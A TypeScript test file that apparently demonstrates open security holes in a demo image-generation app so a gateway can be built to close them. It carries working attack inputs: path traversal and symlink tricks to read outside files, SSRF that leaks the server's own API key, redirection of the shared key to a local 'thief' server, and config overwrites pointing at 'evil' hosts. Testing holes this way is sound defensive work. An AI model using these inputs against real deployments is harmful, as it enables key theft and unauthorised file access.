/** The holes that a gateway has to close, each shown to be open here (contract sections 3 and 6). */
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { drawPng } from '../../demo/jaaz/image.ts';
import { chatBody, dones, get, listen, post, start } from './support.ts';

let standIn: Awaited<ReturnType<typeof start>>;
const outside = mkdtempSync(join(tmpdir(), 'outside-'));
beforeAll(async () => {
  standIn = await start();
});
afterAll(async () => {
  await standIn[Symbol.asyncDispose]();
  rmSync(outside, { recursive: true });
});

const json = async (path: string) => JSON.parse((await get(standIn, path)).text);
const SECRET = 'sk-FAKE-OPENAI-KEY-';

describe('through a chat', () => {
  test('a taken canvas is 500, and the agent draws on it all the same', async () => {
    using ear = await listen(standIn);
    await post(standIn, '/api/canvas/create', chatBody('victim', 'victim-s', 'mine'));
    await ear.until(dones('victim-s', 2));
    expect((await post(standIn, '/api/canvas/create', chatBody('victim', 'evil-s', 'theirs'))).status).toBe(500);
    await ear.until(dones('evil-s', 2));
    const canvas = await json('/api/canvas/victim');
    expect(canvas.data.elements).toHaveLength(2);
    expect(canvas.sessions.map(({ id }: { id: string }) => id).toSorted()).toEqual(['evil-s', 'victim-s']);
  });

  test('everybody hears what everybody asks', async () => {
    using ear = await listen(standIn);
    await post(standIn, '/api/chat', chatBody('victim', 'heard-s', 'PRIVATE-MARKER'));
    await ear.until(dones('heard-s', 2));
    for (const type of ['delta', 'all_messages']) {
      const told = ear.updates.filter((update) => update.type === type);
      expect(JSON.stringify(told)).toContain('PRIVATE-MARKER');
    }
  });

  test('a picture named in a prompt comes back as the answer, wherever it lies', async () => {
    const picture = drawPng('the victim’s own', {});
    writeFileSync(join(standIn.filesDir, 'im_victim01.png'), picture);
    writeFileSync(join(outside, 'host.png'), picture);
    const up = `../../${'../'.repeat(10)}${join(outside, 'host.png').slice(1)}`;
    for (const [at, id] of ['im_victim01.png', join(outside, 'host.png'), up].entries()) {
      using ear = await listen(standIn);
      const session = `thief-${at}`;
      await post(standIn, '/api/chat', chatBody('thief', session, `copy <image file_id="${id}" /> please`));
      const updates = await ear.until(dones(session, 2));
      const url = String(updates.find(({ type }) => type === 'image_generated')?.image_url);
      const copy = await fetch(standIn.url + url);
      expect(Buffer.from(await copy.arrayBuffer())).toEqual(picture);
    }
  });

  test('a file that is no picture is skipped', async () => {
    writeFileSync(join(outside, 'text.png'), 'top secret');
    using ear = await listen(standIn);
    await post(standIn, '/api/chat', chatBody('thief', 'text-s', `<image file_id="${join(outside, 'text.png')}">`));
    const updates = await ear.until(dones('text-s', 2));
    const url = String(updates.find(({ type }) => type === 'image_generated')?.image_url);
    expect((await get(standIn, url)).text).not.toContain('top secret');
  });

  test('the shared key goes where text_model.url says', async () => {
    const heard: (string | undefined)[] = [];
    const thief = createServer((request, response) => {
      heard.push(`${request.method} ${request.url} ${request.headers.authorization}`);
      response.end('{}');
    });
    await new Promise<void>((done) => thief.listen(0, '127.0.0.1', done));
    const url = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/v1/`;
    const text_model = { provider: 'openai', model: 'gpt-4o', url };
    await post(standIn, '/api/chat', { ...chatBody('thief', 'key-s', 'hello'), text_model });
    thief.closeAllConnections();
    thief.close();
    expect(heard).toEqual([expect.stringContaining(`POST /v1/chat/completions Bearer ${SECRET}`)]);
  });

  test('another’s run is cancelled by anyone', async () => {
    using ear = await listen(standIn);
    const running = post(standIn, '/api/chat', chatBody('victim', 'long-s', '[[confirm]]'));
    await ear.until((updates) => updates.some(({ type }) => type === 'tool_call_pending_confirmation'));
    expect((await post(standIn, '/api/magic/cancel/long-s', '')).text).toBe('{"status":"cancelled"}');
    await running;
  });
});

describe('through the configuration', () => {
  test('the keys are in clear', async () => {
    expect((await get(standIn, '/api/config')).text).toContain(SECRET);
    expect(await json('/api/list_models')).toContainEqual({
      provider: 'openai',
      model: 'gpt-4o',
      url: 'https://api.openai.com/v1/',
      type: 'text',
    });
  });

  test('the server fetches from itself', async () => {
    const url = `${standIn.url}/api/config?x=`;
    expect((await post(standIn, '/api/comfyui/object_info', { url })).text).toContain(SECRET);
    const own = await post(standIn, '/api/settings/comfyui/proxy', { url: standIn.url, path: '/api/canvas/list' });
    expect(own.text).toContain('"victim"');
    const refused = await post(standIn, '/api/comfyui/object_info', { url: `http://127.0.0.1:${await closedPort()}` });
    expect([refused.status, (await post(standIn, '/api/comfyui/object_info', {})).status]).toEqual([503, 422]);
  });

  test('anyone replaces it for all', async () => {
    await using other = await start();
    expect((await get(other, '/api/list_tools')).text).toContain('generate_image_by_');
    expect((await post(other, '/api/config', { evil: { url: 'http://evil/' } })).text).toContain('"success"');
    expect((await get(other, '/api/config')).text).toBe('{"evil":{"url":"http://evil/"}}');
    expect((await get(other, '/api/list_tools')).status).toBe(500);
    await post(other, '/api/settings', { proxy: 'http://u:p@evil/', anything: 1 });
    expect(JSON.parse((await get(other, '/api/settings')).text)).toMatchObject({ anything: 1 });
    expect((await get(other, '/api/settings/proxy')).text).toContain('u:p@evil');
    expect((await post(other, '/api/settings/proxy', { proxy: 'evil' })).status).toBe(400);
  });

  test('workflows are everybody’s', async () => {
    const workflow = { name: 'w', api_json: { a: 1 }, description: '', inputs: [] };
    expect((await post(standIn, '/api/settings/comfyui/create_workflow', workflow)).text).toBe('{"success":true}');
    const [made] = await json('/api/settings/comfyui/list_workflows');
    expect(made).toMatchObject({ name: 'w', api_json: '{"a": 1}', inputs: '[]' });
    const remove = (id: string) =>
      fetch(`${standIn.url}/api/settings/comfyui/delete_workflow/${id}`, { method: 'DELETE' });
    expect(await (await remove(made.id)).text()).toBe('null');
    expect((await remove('x')).status).toBe(422);
  });
});

describe('through the workspace', () => {
  const secret = join(outside, 'secret.txt');

  test('any file is read, written, renamed and deleted', async () => {
    const files = (route: string, body: object) => post(standIn, `/api/${route}`, body);
    await files('update_file', { path: secret, content: 'TOP' });
    expect(readFileSync(secret, 'utf8')).toBe('TOP');
    expect((await files('read_file', { path: secret })).text).toBe('{"content":"TOP"}');
    await files('rename_file', { old_path: secret, new_title: 'moved.txt' });
    expect((await files('read_file', { path: secret })).text).toContain('"error"');
    await files('delete_file', { path: join(outside, 'moved.txt') });
    expect(existsSync(join(outside, 'moved.txt'))).toBe(false);
    await files('create_file', { rel_dir: join(outside, 'new') });
    expect(existsSync(join(outside, 'new'))).toBe(true);
    expect((await post(standIn, '/api/read_file', '{')).status).toBe(500);
  });

  test('any directory is listed, all users’ pictures included', async () => {
    const { path } = await json('/api/settings/my_assets_dir_path');
    writeFileSync(join(path, 'im_someone1.png'), drawPng('x', {}));
    for (const route of ['browse_filesystem?path', 'get_media_files?path', 'list_files_in_dir?rel_path']) {
      expect((await get(standIn, `/api/${route}=${encodeURIComponent(path)}`)).text).toContain('im_someone1.png');
    }
    expect((await json('/api/browse_filesystem')).items).toBeInstanceOf(Array);
    expect((await json('/api/get_file_info?file_path=/etc/hostname')).path).toBe('/etc/hostname');
  });

  test('whatever is named like a picture is served', async () => {
    writeFileSync(secret, 'TOP');
    symlinkSync(secret, join(outside, 'link.png'));
    const served = await fetch(`${standIn.url}/api/serve_file?file_path=${join(outside, 'link.png')}`);
    expect(await served.text()).toBe('TOP');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment/);
    const refused = await get(standIn, `/api/serve_file?file_path=${secret}`);
    expect(refused).toEqual({ status: 500, text: '{"detail":"400: Not a media file"}' });
    const missing = await get(standIn, '/api/get_file_thumbnail?file_path=/none.png');
    expect(missing).toEqual({ status: 500, text: '{"detail":"404: File not found"}' });
  });
});

/** A port where nobody listens any more; the well-known low ones are refused by fetch itself. */
async function closedPort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  return port;
}
